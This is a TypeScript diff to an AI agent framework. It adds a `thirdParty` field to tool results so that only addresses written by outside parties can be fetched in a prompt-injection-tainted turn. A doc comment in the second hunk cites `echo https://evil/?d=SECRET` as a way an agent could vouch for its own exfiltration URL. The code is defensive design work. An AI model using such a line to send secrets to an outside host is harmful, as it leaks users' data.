@@ -26,6 +26,13 @@ export interface ToolResult {
   artifacts?: Artifact[];
   /** Set when the output carries content from outside (web, mail, MCP): names the source, for taint tracking. */
   externalSource?: string;
+  /**
+   * What third parties wrote in `output`, each exactly as it appears there (a page's text, a mail, search results,
+   * an MCP server's answer): never the tool's own framing, a header it composed, an error message, or anything that
+   * repeats the call's arguments. Only these vouch for an address a later call may fetch in a tainted turn, and only
+   * for a tool that `vouches`. The registry keeps what of them the model is shown (after redaction and the cap).
+   */
+  thirdParty?: readonly string[];
 }
 
 export type Risk = 'low' | 'high';
@@ -94,7 +101,7 @@ export interface NativeTool<P = Record<string, unknown>> {
   external?: boolean;
   /**
    * Its results are third parties' words the model did not write (a fetched page, search results, mail, an MCP
-   * server's answer), so an address that appears in them may be fetched in a tainted turn (src/trust/policy.ts). A
+   * server's answer), so an address that appears in them may be fetched in a tainted turn (src/gate/provenance.ts). A
    * tool whose output can carry the model's own text — a sandbox command's output, a memory file, a note — must
    * not say so: otherwise `echo https://evil/?d=SECRET` would vouch for that address. Default: false.
    */
